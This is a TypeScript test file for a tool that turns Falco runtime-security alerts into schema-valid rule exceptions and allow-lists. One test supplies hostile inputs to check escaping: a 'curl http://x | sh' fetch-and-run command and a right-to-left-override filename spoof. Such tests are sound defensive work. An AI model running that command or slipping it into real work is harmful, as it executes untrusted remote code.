import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import Ajv from 'ajv';
import draft6 from 'ajv/dist/refs/json-schema-draft-06.json';
import { parse } from 'yaml';
import { buildTuning } from './tuning';
import { listValues } from '../knowledge/listValue';
import { playbookForRule } from '../knowledge/playbooks';
import { makeAlert } from '../testing/alerts';
import { VENDORED_FALCO } from '../testing/vendored';
import { sessionOf, vendoredAlertFiles } from '../testing/vendoredAlerts';

const schema = JSON.parse(readFileSync(fileURLToPath(new URL('rule-schema.json', VENDORED_FALCO)), 'utf8'));
const ajv = new Ajv({ strict: false, allErrors: true });
ajv.addMetaSchema(draft6);
const validateRules = ajv.compile(schema);

function expectValidFalco(yaml: string): unknown[] {
  const doc = parse(yaml) as unknown[];
  const ok = validateRules(doc);
  expect(validateRules.errors ?? [], yaml).toEqual([]);
  expect(ok).toBe(true);
  return doc;
}

type ExceptionItem = { name: string; fields: string[]; comps: string[]; values: string[][] };
type RuleItem = { rule: string; exceptions?: ExceptionItem[]; override?: Record<string, string>; append?: boolean; enabled?: boolean };

describe('tuning snippets generated from every vendored alert', () => {
  const session = sessionOf(vendoredAlertFiles());
  const reports = session.summaries().map((s) => session.report(s.id)!);

  it('cover every incident', () => {
    expect(reports.length).toBeGreaterThan(20);
  });

  // Changed deliberately (issue 12): a snippet is now an exception, the rule's own allow-list, a
  // falco.yaml setting for Falco's internal events, or nothing (with the reason) when no safe one exists.
  it.each(reports.map((r) => [`${r.incident.rule} / ${r.incident.entity.label}`, r] as const))('%s: valid per Falco schema, exact', (_name, report) => {
    if (report.tuning.target === 'falco.yaml') {
      expect(report.alert.rule).toMatch(/^Falco internal: /);
      return;
    }
    if (report.tuning.yaml === '') {
      expect(report.tuning.explanation).toMatch(/^No safe exception/);
      return;
    }
    const [item] = expectValidFalco(report.tuning.yaml) as (RuleItem & { list?: string; items?: string[] })[];
    expect(item!.append).toBeUndefined(); // deprecated syntax, never generated
    if (item!.list !== undefined) {
      expect(item!.override).toEqual({ items: 'append' });
      return;
    }
    expect(item!.rule).toBe(report.alert.rule);
    if (item!.exceptions) {
      expect(item!.override).toEqual({ exceptions: 'append' });
      const [exception] = item!.exceptions;
      expect(exception!.fields.length).toBe(exception!.comps.length);
      for (const values of exception!.values) expect(values.length).toBe(exception!.fields.length);
      // Values come back exactly as in the alert: quoting kept them strings.
      exception!.fields.forEach((field, i) => {
        const alertValue = String(report.alert.outputFields[field]);
        const value = exception!.values[0]![i] as unknown;
        if (exception!.comps[i] === 'in') expect(value).toEqual(listValues(alertValue));
        else if (exception!.comps[i] === 'startswith') expect(alertValue.startsWith(value as string)).toBe(true);
        else expect(value).toBe(alertValue);
      });
    } else {
      expect(item).toMatchObject({ enabled: false, override: { enabled: 'replace' } });
    }
    if (report.tuning.alternative) {
      const [list] = expectValidFalco(report.tuning.alternative.yaml) as { list: string; items: string[]; override: object }[];
      expect(list!.override).toEqual({ items: 'append' });
    }
  });
});

describe('tuning with hostile and tricky values', () => {
  it.each([
    'sh -c "curl http://x | sh"',
    "it's: a [list], {map} & *alias #comment",
    'yes',
    'null',
    '0x1F',
    '- item',
    'multi\nline\tvalue',
    '\u202Eexe.gnp',
    '"quoted"',
    '',
  ])('keeps %j exactly and valid', (value) => {
    const alert = makeAlert({ rule: 'PTRACE attached to process', outputFields: { 'proc.name': value || 'x', 'proc.exepath': value || 'x' } });
    const tuning = buildTuning(alert, playbookForRule(alert.rule));
    const [item] = expectValidFalco(tuning.yaml) as RuleItem[];
    expect(item!.exceptions![0]!.values[0]).toContain(value || 'x');
  });

  it('uses the PTRACE allow list as an alternative', () => {
    const alert = makeAlert({ rule: 'PTRACE attached to process', outputFields: { 'proc.name': 'gdb', 'proc.exepath': '/usr/bin/gdb' } });
    const tuning = buildTuning(alert, playbookForRule(alert.rule));
    expect(tuning.alternative?.yaml).toContain('known_ptrace_binaries');
    const [list] = parse(tuning.alternative!.yaml) as { items: string[] }[];
    expect(list!.items).toEqual(['gdb']);
  });

  it('never builds an exception on volatile or indexed fields', () => {
    const alert = makeAlert({ rule: 'Custom', outputFields: { 'proc.pid': 42, 'evt.time': 1, 'proc.aname[2]': 'x' } });
    // Changed deliberately (issue 12): no longer "disable the rule", which blinds it for everyone.
    const tuning = buildTuning(alert, null);
    expect(tuning.yaml).toBe('');
    expect(tuning.explanation).toMatch(/^No safe exception/);
  });

  it('never scopes an exception by a generic image or a temp-dir executable alone, and pairs them with what does scope', () => {
    const weak = { 'container.image.repository': 'docker.io/library/alpine', 'proc.exepath': '/tmp/backup', 'proc.name': 'backup' };
    const none = buildTuning(makeAlert({ rule: 'Custom', outputFields: weak }), null);
    expect(none.yaml).toBe('');
    expect(none.explanation).toMatch(/^No safe exception/);
    const scoped = buildTuning(makeAlert({ rule: 'Custom', outputFields: { ...weak, 'k8s.ns.name': 'backups' } }), null);
    const [item] = parse(scoped.yaml) as { exceptions: { fields: string[] }[] }[];
    expect(item!.exceptions[0]!.fields).toContain('k8s.ns.name');
  });
});
